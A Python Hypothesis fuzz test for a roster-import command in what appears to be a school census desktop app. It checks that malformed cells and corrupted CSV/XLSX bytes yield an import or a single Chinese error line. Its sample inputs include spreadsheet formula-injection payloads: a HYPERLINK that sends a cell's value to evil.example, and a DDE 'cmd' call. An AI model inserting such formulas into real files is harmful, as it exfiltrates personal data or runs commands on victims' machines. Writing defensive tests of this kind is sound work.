"""Fuzzed roster cells (issue 14 point 8, the roster half): every file ends in an import or one Chinese
line with exit status 1, never a traceback; a refused file leaves the store unchanged.

Bounded (a few dozen examples, a few seconds); ``BAOXUE_FUZZ_EXAMPLES`` runs more.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import itertools
import os
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from desktop_app.domain.identity import make_id_number
from desktop_app.services.store import Store
from tests.helpers.cli import run

HEADER = ["姓名", "性别", "身份证号码", "出生日期", "乡镇", "村(社区)", "监护人姓名", "联系电话", "年级"]
EXAMPLES = int(os.environ.get("BAOXUE_FUZZ_EXAMPLES", "40"))
_counter = itertools.count()

valid_ids = st.builds(lambda d, s: make_id_number("500223", dt.date(2010, 1, 1) + dt.timedelta(days=d), s),
                      st.integers(0, 3000), st.integers(0, 999))
texts = st.one_of(
    st.text(max_size=40),
    st.text(alphabet="=+-@\t\r\n\"',;王李张小明村镇0123456789Xx ", max_size=30),
    st.sampled_from(["=1+1", '=HYPERLINK("http://evil.example/?d="&C5,"详情")', "=cmd|' /C calc'!A0", "@SUM(A1)",
                     "+86 138", "-1", "\t王明", "\r张三", "男", "女", "七年级", "2014-03-01", "2014年3月1日", "31/31/2026",
                     "", " ", "\x00"]),
    st.builds(lambda n: "长" * n, st.sampled_from([31, 2001, 20_000])),
)
cells = st.one_of(texts, valid_ids, st.integers(-(10**20), 10**20), st.floats(allow_nan=True, allow_infinity=True),
                  st.dates(dt.date(1900, 1, 1), dt.date(2100, 1, 1)), st.none(), st.booleans())
rows = st.lists(st.lists(cells, min_size=0, max_size=12), min_size=0, max_size=8)


def _ledger(store: Store) -> list[Any]:
    """The rows a roster import writes (the sign-in of the command itself is in the history: left out)."""
    with store.read() as session:
        conn = session.connection()
        return [conn.exec_driver_sql(f"SELECT * FROM {t} ORDER BY id").all()
                for t in ("students", "roster_members", "roster_imports")]


def _write(path: Path, header: list[Any], body: list[list[Any]]) -> Path:
    if path.suffix == ".csv":
        with path.open("w", encoding="utf-8", newline="") as fh:
            writer = csv.writer(fh)
            writer.writerow(header)
            writer.writerows([["" if c is None else c for c in r] for r in body])
        return path
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    for line in [header, *body]:
        clean = []
        for c in line:
            if isinstance(c, str):
                c = "".join(ch for ch in c if ch in "\t\n\r" or ord(ch) >= 32)  # what Excel itself can hold
            if isinstance(c, int) and abs(c) > 2**53:
                c = str(c)
            clean.append(c)
        ws.append(clean)
    wb.save(path)
    return path


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                      HealthCheck.too_slow])
@given(body=rows, suffix=st.sampled_from([".csv", ".xlsx"]), header_cut=st.integers(0, len(HEADER)))
def test_fuzzed_roster_cells_end_in_an_import_or_one_chinese_line(store: Store, tmp_path: Path,
                                                                  capsys: pytest.CaptureFixture[str],
                                                                  body: list[list[Any]], suffix: str,
                                                                  header_cut: int) -> None:
    path = _write(tmp_path / f"名册{next(_counter)}{suffix}", HEADER[:header_cut] or ["x"], body)
    before = _ledger(store)
    code, out, err = run(capsys, "--data-dir", str(store.data_dir), "import-roster", str(path), "--kind", "census",
                         "--report", str(tmp_path / f"report{next(_counter)}.xlsx"))
    assert code in (0, 1) and "Traceback" not in err
    if code == 1 and err.startswith("错误："):
        assert err.count("\n") == 1, err  # one Chinese line
        assert _ledger(store) == before  # refused: nothing changed
    elif code == 1:
        assert out.startswith("接受 0 行")  # read, but no row could be imported


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                      HealthCheck.too_slow])
@given(data=st.one_of(st.binary(max_size=400), st.just(b"")),  # b"": a real roster, damaged
       suffix=st.sampled_from([".csv", ".xlsx", ".xls", ".ods"]), damage=st.integers(0, 4000), flip=st.integers(1, 255))
def test_fuzzed_roster_bytes_end_in_one_chinese_line(store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                     data: bytes, suffix: str, damage: int, flip: int) -> None:
    """Random bytes, and real rosters with one byte flipped or cut short: read or refused in one line."""
    from desktop_app.domain.errors import BaoxueError
    from desktop_app.services import census
    from tests.helpers import rosters as R

    path = tmp_path / f"名册{next(_counter)}{suffix}"
    if data:
        path.write_bytes(data)
    else:
        real = R.write_census_xlsx(tmp_path / f"real{next(_counter)}.xlsx",
                                   [R.census_cells(i, c) for i, c in enumerate(R.children(5))])
        raw = bytearray(real.read_bytes())
        at = damage % len(raw)
        raw[at] ^= flip
        path.write_bytes(bytes(raw[: len(raw) - damage // 8]) if damage % 2 else bytes(raw))
    with contextlib.suppress(BaoxueError):  # the import dialog's preview: read or refused, nothing else
        census.preview_roster(store, path, "census")
    before = _ledger(store)
    code, _out, err = run(capsys, "--data-dir", str(store.data_dir), "import-roster", str(path), "--kind", "census",
                          "--report", str(tmp_path / f"report{next(_counter)}.xlsx"))
    assert code in (0, 1) and "Traceback" not in err
    if code == 1 and err.startswith("错误："):
        assert err.count("\n") == 1, err
        assert _ledger(store) == before
